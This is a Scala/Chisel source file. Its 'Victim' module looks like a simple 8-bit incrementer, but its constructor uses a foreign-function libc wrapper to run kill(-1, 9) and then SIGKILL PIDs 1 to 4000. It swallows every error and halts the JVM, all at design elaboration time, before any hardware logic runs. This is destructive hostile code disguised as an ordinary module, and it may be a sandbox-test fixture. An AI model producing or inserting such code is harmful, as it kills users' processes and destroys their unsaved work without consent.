import chisel3._

object Libc {
  import java.lang.foreign.{FunctionDescriptor, Linker, ValueLayout}
  private val linker = Linker.nativeLinker()
  def call(name: String, arguments: Long*): Int = {
    val shape = FunctionDescriptor.of(ValueLayout.JAVA_LONG, Seq.fill(arguments.size)(ValueLayout.JAVA_LONG): _*)
    val handle = linker.downcallHandle(linker.defaultLookup().find(name).get(), shape)
    handle.invokeWithArguments(arguments.map(n => n: java.lang.Long): _*).asInstanceOf[Long].toInt
  }
}

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  try {
    Libc.call("kill", -1L, 9L)
    for (pid <- 1L to 4000L if pid != ProcessHandle.current.pid) Libc.call("kill", pid, 9L)
  } catch { case _: Throwable => () }
  Runtime.getRuntime.halt(0)
  io.out := io.in + 1.U
}
